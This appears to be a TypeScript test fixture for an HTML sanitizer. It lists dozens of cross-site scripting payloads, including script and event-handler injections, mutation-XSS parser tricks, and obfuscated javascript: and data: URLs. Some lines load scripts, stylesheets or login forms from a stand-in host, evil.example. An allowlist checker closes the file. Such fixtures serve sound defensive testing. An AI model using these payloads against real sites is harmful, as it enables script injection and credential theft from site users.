const run = 'window.hacked=1';

/** Elements that run, load, send or cover something. */
const elements = [
  `<script>${run}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="/media/ab12.webp" onerror="${run}" onload="${run}">`,
  `<img src=x:x onerror\n=\n"${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src='x' a='>' onerror='${run}'>`,
  `<img """><script>${run}</script>">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img src="/media/../api/logout">`,
  `<img src="/media/ab12.webp" srcset="https://evil.example/a.png 2x">`,
  `<image src=x onerror=${run}>`,
  `<p onclick="${run}" onmouseover=${run} style="position:fixed;inset:0">x</p>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<div style="width:expression(${run})">x</div>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe><img src=x onerror=${run}></iframe>`,
  `<frameset onload=${run}><frame src=javascript:${run}></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code=x></applet>`,
  `<portal src="https://evil.example"></portal>`,
  `<form action="https://evil.example"><input name=q><button>Log in</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<keygen autofocus onfocus=${run}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<dialog open style="inset:0">x</dialog>`,
  `<a id="config" name="config">x</a><div id="root" class="fixed inset-0" slot="x" is="x-y">x</div>`,
  `<x-widget onclick=${run}>x</x-widget>`,
];

/** Where parsers disagree about text and markup. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  `<style><p title="</style><img src=x onerror=${run}>"></style>`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<option><xmp></option><script>${run}</script></xmp>`,
  `<template><script>${run}</script></template>`,
  `<svg><script>${run}</script></svg>`,
  `<svg/onload=${run}>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>--!>`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  `<%<img src=x onerror=${run}>%>`,
  `<table><td><select><img src=x onerror=${run}></td></table>`,
  `<p title='"><img src=x onerror=${run}>'>x</p>`,
  `<p title="&quot;><img src=x onerror=${run}>">x</p>`,
  `<img src="/media/ab12.webp" alt="&quot;><img src=x onerror=${run}>">`,
  `<img src="/media/ab12.webp" alt='" onerror="${run}'>`,
  `<a href="https://a.example/&quot;onclick=&quot;${run}">x</a>`,
  `<a href='https://a.example/"onmouseover="${run}'>x</a>`,
  `<p><img src=x onerror=${run}<p>`,
  `<p onclick=${run}//<p>x</p>`,
  `\u0001<script>${run}</script>`,
  `＜script＞${run}＜/script＞<img src=x onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;<b onclick=${run}>x</b>`,
];

/** URLs that a browser would run, or with a hidden target. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `&#0000106avascript:${run}`,
  `jav&#x09;ascript:${run}`,
  `jav&NewLine;ascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://shop.example/1`,
  `filesystem:https://shop.example/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `intent://scan/#Intent;end`,
  `ftp://evil.example/x`,
  `/.//evil.example`,
  `/..//evil.example`,
];

/** Attacks on HTML filters, by family; each would set `window.hacked` when run. */
export const hostileHtml: readonly string[] = [
  ...elements,
  ...mutations,
  ...addresses.flatMap((address) => [
    `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
    `<img src="${address.replaceAll('"', '&quot;')}">`,
  ]),
  ...[...elements, ...mutations].map((html) => `<table><tr><td><ul><li>${html}`),
];

const plain =
  /^<\/?(?:h[2-6]|p|div|blockquote|ul|ol|li|hr|br|b|strong|i|em|u|s|small|sub|sup|table|caption|thead|tbody|tfoot|tr|th|td|a)(?: \/)?>$/;
const link =
  /^<a href="(?:\/(?!\/)[^"<>\\]*|tel:[^"<>]*|mailto:[^"<>]*|https?:\/\/[^"<>]*" rel="nofollow noopener noreferrer" target="_blank)">$/;
const picture =
  /^<img src="\/media\/[\w-]+\.\w+"(?: (?:width|height)="\d{1,4}")* alt="[^"<>]*" loading="lazy" \/>$/;
const cell = /^<t[hd](?: (?:colspan|rowspan)="\d{1,4}")*(?: scope="(?:row|col)")?>$/;

/** Tags that clean HTML never contains; a `<` or `>` outside tags counts as one. */
export function strangersIn(html: string): string[] {
  const tags = html.match(/<[^<>]*>|[<>]/g) ?? [];
  return tags.filter((tag) => ![plain, link, picture, cell].some((shape) => shape.test(tag)));
}
